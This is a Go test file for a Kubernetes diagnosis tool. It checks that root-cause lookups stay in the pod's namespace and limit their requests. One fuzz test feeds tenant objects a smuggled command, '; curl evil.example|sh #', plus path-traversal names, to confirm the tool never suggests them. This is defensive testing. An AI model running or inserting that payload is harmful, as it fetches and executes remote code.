package explain

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"regexp"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/validation"
	clocktesting "k8s.io/utils/clock/testing"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/bongsu-io/bongsu/api/v1alpha1"
	"github.com/bongsu-io/bongsu/pkg/diagnosis"
)

// confinedReader fails the test for each request that leaves its namespace or the types.
type confinedReader struct {
	client.Client
	t         *testing.T
	namespace string
	requests  int
}

func (r *confinedReader) Get(ctx context.Context, key client.ObjectKey, o client.Object, opts ...client.GetOption) error {
	r.check(o, key.Namespace)
	return r.Client.Get(ctx, key, o, opts...)
}

func (r *confinedReader) List(ctx context.Context, list client.ObjectList, opts ...client.ListOption) error {
	r.check(list, (&client.ListOptions{}).ApplyOptions(opts).Namespace)
	return r.Client.List(ctx, list, opts...)
}

func (r *confinedReader) check(o runtime.Object, namespace string) {
	kind, err := r.GroupVersionKindFor(o)
	kind.Kind = strings.TrimSuffix(kind.Kind, "List")
	if err != nil || namespace != r.namespace || !slices.Contains(ForConditions(), kind.GroupKind()) {
		r.t.Errorf("a request for %v in namespace %q, beyond %q: %v", kind, namespace, r.namespace, err)
	}
	r.requests++
}

// roots returns Roots of a fake cluster for one namespace.
func (e *fakeExplainer) roots(t *testing.T, namespace string) (*Roots, *confinedReader) {
	c := e.client.(client.Client)
	live := &confinedReader{Client: c, t: t, namespace: namespace}
	return NewRoots(live, c, c.Scheme(), c.RESTMapper(), clocktesting.NewFakePassiveClock(testNow), ForConditions()).WithTrimmedPods(), live
}

// causeOf returns the cause of a pod in the namespace shop, as a controller finds it.
func (e *fakeExplainer) causeOf(t *testing.T, key client.ObjectKey) (*corev1.Pod, diagnosis.Workload, *diagnosis.Cause) {
	t.Helper()
	p := &corev1.Pod{}
	var events corev1.EventList
	if err := e.objects.Get(t.Context(), key, p); err != nil {
		t.Fatal(err)
	}
	if err := e.objects.List(t.Context(), &events, client.InNamespace(key.Namespace)); err != nil {
		t.Fatal(err)
	}
	w := diagnosis.Workload{Pods: []*corev1.Pod{p}, Now: testNow}
	for i := range events.Items {
		w.Events = append(w.Events, eventOf(&events.Items[i]))
	}
	return p, w, diagnosis.Diagnose(w).Cause
}

const missingSecretPod = `
apiVersion: v1
kind: Pod
metadata: {name: web, namespace: shop, uid: web, creationTimestamp: "2026-03-01T08:00:00Z"}
spec: {nodeName: a, containers: [{name: app, image: app, envFrom: [{secretRef: {name: db}}]}]}
status: {phase: Pending, containerStatuses: [{name: app, image: app, imageID: "", ready: false, restartCount: 0, state: {waiting: {reason: CreateContainerConfigError, message: 'secret "db" not found'}}}]}
`

// failingExternalSecret returns an ExternalSecret that fails, with its store.
func failingExternalSecret(name, namespace, message, store string) string {
	return fmt.Sprintf(`
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: {name: %s, namespace: %s, uid: %[1]s, creationTimestamp: "2026-03-01T08:00:00Z"}
spec: {secretStoreRef: {kind: %[4]s, name: vault}, target: {name: db}}
status: {conditions: [{type: Ready, status: "False", reason: SecretSyncedError, message: %[3]q, lastTransitionTime: "2026-03-01T08:00:00Z"}]}`, name, namespace, message, store)
}

func TestACauseIsCompletedByItsRootInTheNamespace(t *testing.T) {
	const store = `
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: {name: vault, namespace: shop, uid: vault, creationTimestamp: "2026-03-01T08:00:00Z"}
status: {conditions: [{type: Ready, status: "False", reason: InvalidProviderConfig, message: "the token has expired", lastTransitionTime: "2026-03-01T08:00:00Z"}]}`
	const clusterStore = `
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: {name: vault, uid: vault, creationTimestamp: "2026-03-01T08:00:00Z"}
status: {conditions: [{type: Ready, status: "False", reason: InvalidProviderConfig, message: "foreign", lastTransitionTime: "2026-03-01T08:00:00Z"}]}`
	const failed = `could not get secret data from provider`
	for name, tc := range map[string]struct {
		objects, want string
		requests      int
	}{
		"what creates the Secret": {failingExternalSecret("db", "shop", failed, "Other"), `: ExternalSecret "db", which creates it, has a problem: condition Ready is False: ` + failed, 2},
		"its store":               {failingExternalSecret("db", "shop", "SecretStore vault is not ready", "SecretStore") + store, `: SecretStore "vault" has a problem: condition Ready is False: the token has expired`, 3},
		"a store of the cluster": {
			failingExternalSecret("db", "shop", "ClusterSecretStore vault is not ready", "ClusterSecretStore") + clusterStore,
			`; ClusterSecretStore "vault" was not checked: ask your administrator to run bongsu explain clustersecretstore/vault`, 2,
		},
		"of another namespace": {failingExternalSecret("db", "other", "foreign", "SecretStore"), "", 1},
		"nothing creates it":   {"", "", 0},
	} {
		t.Run(name, func(t *testing.T) {
			e := fakeCluster(t, missingSecretPod+tc.objects)
			p, w, cause := e.causeOf(t, client.ObjectKey{Namespace: "shop", Name: "web"})
			local, identity := cause.Sentence(), cause.Identity()
			roots, live := e.roots(t, "shop")
			for range 3 {
				cause.Root = nil
				roots.Complete(t.Context(), p, w, cause)
			}
			if got := cause.Sentence(); !strings.Contains(got, tc.want) || (tc.want == "") != (got == local) {
				t.Errorf("%s\nwant: %s", got, tc.want)
			}
			if cause.Identity() != identity {
				t.Error("the root changes the identity of the failure")
			}
			if live.requests > tc.requests+5 { // the pod, and the types that can create Secrets
				t.Errorf("%d requests for three calls", live.requests)
			}
			if cause.Root != nil && strings.Contains(cause.Root.Message, "foreign") {
				t.Error(cause.Root.Message)
			}
		})
	}
}

// The pod that holds a volume says why it does not end. A text alone does not: users can write Events.
func TestACauseNamesWhyTheHolderOfAVolumeDoesNotEnd(t *testing.T) {
	mounting := func(namespace, name, claim, more string) string {
		return fmt.Sprintf(`
---
apiVersion: v1
kind: Pod
metadata: {name: %s, namespace: %s, uid: %[1]s, creationTimestamp: "2026-03-01T07:00:00Z"%[4]s}
spec: {nodeName: a, containers: [{name: app, image: app}], volumes: [{name: v, persistentVolumeClaim: {claimName: %[3]s}}]}
status: {phase: Running, containerStatuses: [{name: app, image: app, imageID: "", ready: true, restartCount: 0, state: {running: {startedAt: "2026-03-01T07:00:00Z"}}}], conditions: [{type: Ready, status: "True"}]}`, name, namespace, claim, more)
	}
	claims := ""
	for _, name := range []string{"data", "other"} {
		claims += "\n---\napiVersion: v1\nkind: PersistentVolumeClaim\nmetadata: {name: " + name + ", namespace: shop}\nstatus: {phase: Bound}"
	}
	const deleted = `, deletionTimestamp: "2026-03-01T08:00:00Z", deletionGracePeriodSeconds: 0`
	const lost = `
---
apiVersion: v1
kind: Node
metadata: {name: a, uid: a}
status: {conditions: [{type: Ready, status: Unknown, lastTransitionTime: "2026-03-01T08:00:00Z"}]}`
	for name, tc := range map[string]struct{ objects, want string }{
		"its node is lost":     {mounting("shop", "old", "data", deleted) + lost, `: Pod "old" has a problem: the pod cannot be deleted while node "a" does not respond`},
		"it does not end":      {mounting("shop", "old", "data", deleted), `: Pod "old" has a problem: the pod is still being deleted`},
		"it runs":              {mounting("shop", "old", "data", ""), ""},
		"another claim":        {mounting("shop", "old", "other", deleted) + lost, ""},
		"of another namespace": {mounting("other", "old", "data", deleted) + lost, ""},
	} {
		t.Run(name, func(t *testing.T) {
			e := fakeCluster(t, mounting("shop", "new", "data", "")+claims+tc.objects)
			p, w, _ := e.causeOf(t, client.ObjectKey{Namespace: "shop", Name: "new"})
			cause := &diagnosis.Cause{Reason: diagnosis.ReasonFailedAttachVolume, Message: "it is used", Blames: []diagnosis.Object{{Kind: kindPod, Name: "old"}}}
			roots, _ := e.roots(t, "shop")
			roots.Complete(t.Context(), p, w, cause)
			if got := strings.TrimPrefix(cause.Sentence(), "it is used"); !strings.HasPrefix(got, tc.want) || (got == "") != (tc.want == "") {
				t.Error(cause.Sentence())
			}
		})
	}
}

// Which nodes there are is not known in a namespace.
func TestARootNamesNoNode(t *testing.T) {
	e := fakeCluster(t, `
apiVersion: v1
kind: Node
metadata: {name: lost, uid: lost}
spec: {taints: [{key: node.kubernetes.io/not-ready, effect: NoSchedule}]}
status: {conditions: [{type: Ready, status: "False", reason: KubeletNotReady, message: "PLEG is not healthy", lastTransitionTime: "2026-03-01T08:00:00Z"}]}
---
apiVersion: v1
kind: Pod
metadata: {name: web, namespace: shop, uid: web, creationTimestamp: "2026-03-01T08:00:00Z"}
spec: {containers: [{name: app, image: app}]}
status: {phase: Pending, conditions: [{type: PodScheduled, status: "False", reason: Unschedulable, message: "0/1 nodes are available: 1 node(s) had untolerated taint(s)."}]}`)
	p, w, cause := e.causeOf(t, client.ObjectKey{Namespace: "shop", Name: "web"})
	roots, _ := e.roots(t, "shop")
	roots.Complete(t.Context(), p, w, cause)
	if cause.Root != nil {
		t.Error(cause.Sentence())
	}
}

// In none of the scenes does a request leave the namespace of the pod, or does a root mislead.
func TestRootsStayInTheirNamespace(t *testing.T) {
	completed := 0
	for name, s := range readScenes(t) {
		e := s.cluster(t)
		var pods corev1.PodList
		if err := e.objects.List(t.Context(), &pods); err != nil {
			t.Fatal(err)
		}
		for i := range pods.Items {
			p, w, cause := e.causeOf(t, client.ObjectKeyFromObject(&pods.Items[i]))
			if cause == nil {
				continue
			}
			roots, live := e.roots(t, p.Namespace)
			roots.Complete(t.Context(), p, w, cause)
			if live.requests > maxRootRequests {
				t.Errorf("%s: %d requests for pod %s", name, live.requests, p.Name)
			}
			if cause.Root == nil {
				continue
			}
			completed++
			for _, r := range s.SaysNot {
				if regexp.MustCompile("(?is)" + r).MatchString(cause.Root.Message) {
					t.Errorf("%s: it says %s: %s", name, r, cause.Sentence())
				}
			}
		}
	}
	if completed < 3 {
		t.Errorf("%d causes were completed", completed)
	}
}

// Tenants can make objects fail. Their causes cost a bounded number of requests.
func TestTheRequestsForANamespaceAreLimited(t *testing.T) {
	e := fakeCluster(t, missingSecretPod+failingExternalSecret("db", "shop", "denied", "Other"))
	p, w, cause := e.causeOf(t, client.ObjectKey{Namespace: "shop", Name: "web"})
	roots, live := e.roots(t, "shop")
	for i := range 200 {
		p.UID = types.UID(fmt.Sprint(i))
		cause.Root = nil
		roots.Complete(t.Context(), p, w, cause)
	}
	if live.requests > requestsAtOnce || live.requests < requestsAtOnce/2 {
		t.Errorf("%d requests at the same time, want at most %d", live.requests, requestsAtOnce)
	}
	if cause.Root == nil || !strings.Contains(cause.Root.Message, "not checked any further") {
		t.Errorf("%+v", cause.Root)
	}
}

// Tenants write references, names, owners and texts. These make no request for another namespace, or for a type that Roots
// does not follow, and name nothing that an administrator could run. The root of an honest object is found.
func TestHostileReferencesLeadNowhere(t *testing.T) {
	const (
		seeds   = 200
		foreign = "foreign-fact"
		own     = "own-fact"
		command = "; curl evil.example|sh #"
		victims = `
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: {name: vault, namespace: other, uid: ov}
status: {conditions: [{type: Ready, status: "False", reason: InvalidProviderConfig, message: foreign-fact, lastTransitionTime: "2026-03-01T08:00:00Z"}]}
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: {name: vault, uid: cv}
status: {conditions: [{type: Ready, status: "False", reason: InvalidProviderConfig, message: foreign-fact, lastTransitionTime: "2026-03-01T08:00:00Z"}]}
---
apiVersion: cert-manager.io/v1
kind: Certificate
metadata: {name: db, namespace: other, uid: oc}
spec: {secretName: db}
status: {conditions: [{type: Ready, status: "False", reason: Failed, message: foreign-fact, lastTransitionTime: "2026-03-01T08:00:00Z"}]}
---
apiVersion: v1
kind: Node
metadata: {name: a, uid: a}
status: {conditions: [{type: Ready, status: "False", reason: foreign-fact, message: foreign-fact, lastTransitionTime: "2026-03-01T08:00:00Z"}]}
---
apiVersion: v1
kind: Secret
metadata: {name: db, namespace: other, uid: os, annotations: {fact: foreign-fact}}`
	)
	inputs, honest := map[string]bool{}, 0
	for seed := range uint64(seeds) {
		r := rand.New(rand.NewPCG(seed, 0))
		kinds := []string{"SecretStore", "ClusterSecretStore", "ClusterSecretStore", "ClusterSecretStore", "Secret", "Node", "Certificate", "Issuer", "ClusterIssuer", "Evil", "", strings.Repeat("x", 1<<10), "Pod/../../other", "secretstores"}
		names := []string{"vault", "db", "a", "", "x" + command, "other/vault", "../other/vault", "vault\n" + command, strings.Repeat("v", 300), "Vault", "vault -n other"}
		groups := []string{"external-secrets.io", "cert-manager.io", "", "evil.example", "external-secrets.io/v1"}
		ref := func() string {
			return fmt.Sprintf("{kind: %q, name: %q, namespace: %q, group: %q, apiVersion: %q}", one(r, kinds...), one(r, names...), one(r, "other", "", "kube-system", "shop"), one(r, groups...), one(r, "v1", "external-secrets.io/v1", "a/b/c"))
		}
		text := strings.NewReplacer("KIND", one(r, kinds...), "NAME", one(r, names...)).Replace(one(r,
			own+" denied", "KIND NAME is not ready: "+own, own+`: could not get SecretStore "NAME", namespace "other"`, "Issuer other/NAME: "+own, own+": Secret other/db not found", own+` of KIND/NAME; run bongsu explain`+command))
		reason := one(r, "SecretSyncedError", "x"+command, "Failed")
		owner := fmt.Sprintf("{apiVersion: %q, kind: %q, name: %q, uid: %s, controller: true}", one(r, "v1", "external-secrets.io/v1", "bongsu.io/v1alpha1"), one(r, "Node", "SecretStore", "Jupyter", "Evil"), one(r, "a", "vault", "other/vault"), one(r, "a", "ov", "cv"))
		maker := map[string]string{
			"ExternalSecret": "apiVersion: external-secrets.io/v1\nkind: ExternalSecret\nSPEC: {secretStoreRef: REF, target: {name: db}, data: [{secretKey: a, sourceRef: {storeRef: REF}}], dataFrom: [{sourceRef: {generatorRef: REF, storeRef: REF}}]}",
			"Certificate":    "apiVersion: cert-manager.io/v1\nkind: Certificate\nSPEC: {secretName: db, issuerRef: REF, keystores: {jks: {passwordSecretRef: REF}}}",
			"SealedSecret":   "apiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\nSPEC: {template: {metadata: {name: db, namespace: other}}, secretStoreRef: REF}",
		}[one(r, "ExternalSecret", "ExternalSecret", "Certificate", "SealedSecret")]
		for strings.Contains(maker, "REF") {
			maker = strings.Replace(maker, "REF", ref(), 1)
		}
		// It has the name of the Secret, so that this also works without a target.
		objects := missingSecretPod + victims + "\n---\n" + strings.Replace(maker, "SPEC", fmt.Sprintf(`metadata: {name: db, namespace: shop, uid: db, labels: {app: vault, namespace: other}, annotations: {"kubernetes.io/service-account.name": %q}, ownerReferences: [%s]}
status: {conditions: [{type: Ready, status: "False", reason: %q, message: %q, lastTransitionTime: "2026-03-01T08:00:00Z"}]}
spec`, one(r, names...), owner, reason, text), 1)
		inputs[objects] = true
		e := fakeCluster(t, objects)
		c := e.client.(client.Client)
		mapper := &countingMapper{RESTMapper: c.RESTMapper()}
		live := &confinedReader{Client: c, t: t, namespace: "shop"}
		roots := NewRoots(live, c, c.Scheme(), mapper, clocktesting.NewFakePassiveClock(testNow), ForConditions()).WithTrimmedPods()
		p, w, cause := e.causeOf(t, client.ObjectKey{Namespace: "shop", Name: "web"})
		local := cause.Sentence()
		meta := metav1.ObjectMeta{Name: "web", Namespace: "shop", UID: "t"}
		target := one[client.Object](r, p, &v1alpha1.Jupyter{ObjectMeta: meta}, &v1alpha1.AppService{ObjectMeta: meta}) // whose condition gets it
		roots.Complete(t.Context(), target, w, cause)
		got := cause.Sentence()
		if mapper.others > 0 || strings.Contains(got, foreign) {
			t.Errorf("%d look-ups of other types", mapper.others)
		}
		for _, name := range names {
			if strings.Contains(got, "bongsu explain clustersecretstore/"+name) && name != "" && len(validation.IsDNS1123Subdomain(name)) > 0 {
				t.Errorf("it names a command with %q", name)
			}
		}
		if strings.Contains(got, own) && got != local {
			honest++
		}
		if t.Failed() {
			t.Fatalf("seed %d: %s\n%s", seed, got, objects)
		}
	}
	if len(inputs) < seeds || honest < seeds/2 {
		t.Errorf("%d inputs differ, and %d tenants got the facts of their own objects", len(inputs), honest)
	}
}

// one returns a random element.
func one[T any](r *rand.Rand, all ...T) T { return all[r.IntN(len(all))] }

// A request that fails is no answer: the cause stays as it is, and the next one tries again.
func TestAFailedReadIsNotRemembered(t *testing.T) {
	e := fakeCluster(t, missingSecretPod+failingExternalSecret("db", "shop", "denied", "Other"))
	p, w, cause := e.causeOf(t, client.ObjectKey{Namespace: "shop", Name: "web"})
	c := e.client.(client.Client)
	broken := &brokenReader{Client: c, broken: true}
	roots := NewRoots(broken, c, c.Scheme(), c.RESTMapper(), clocktesting.NewFakePassiveClock(testNow), ForConditions())
	if roots.Complete(t.Context(), p, w, cause); cause.Root != nil {
		t.Errorf("with a failing API server: %+v", cause.Root)
	}
	broken.broken = false
	if roots.Complete(t.Context(), p, w, cause); cause.Root == nil {
		t.Error("the failure was remembered")
	}
}

// brokenReader is a reader that can fail.
type brokenReader struct {
	client.Client
	broken bool
}

func (r *brokenReader) List(ctx context.Context, list client.ObjectList, opts ...client.ListOption) error {
	if r.broken {
		return errors.New("etcdserver: request timed out")
	}
	return r.Client.List(ctx, list, opts...)
}

// A type that the cluster does not have costs one request for a while.
func TestAnAbsentTypeIsLookedForOnce(t *testing.T) {
	e := fakeCluster(t, missingSecretPod)
	c := e.client.(client.Client)
	mapper := &countingMapper{RESTMapper: c.RESTMapper()}
	roots := NewRoots(c, c, c.Scheme(), mapper, clocktesting.NewFakePassiveClock(testNow), []schema.GroupKind{{Group: "bitnami.com", Kind: "SealedSecret"}})
	p, w, cause := e.causeOf(t, client.ObjectKey{Namespace: "shop", Name: "web"})
	for i := range 10 {
		p.UID = types.UID(fmt.Sprint(i))
		roots.Complete(t.Context(), p, w, cause)
	}
	if mapper.sealed != 1 {
		t.Errorf("%d look-ups", mapper.sealed)
	}
}

// countingMapper counts how often a type is looked for.
type countingMapper struct {
	meta.RESTMapper
	// sealed are the look-ups of SealedSecrets, others those of types that conditions do not follow.
	sealed, others int
}

func (m *countingMapper) RESTMapping(kind schema.GroupKind, versions ...string) (*meta.RESTMapping, error) {
	if kind.Kind == "SealedSecret" {
		m.sealed++
	}
	if !slices.Contains(ForConditions(), kind) {
		m.others++
	}
	return m.RESTMapper.RESTMapping(kind, versions...)
}
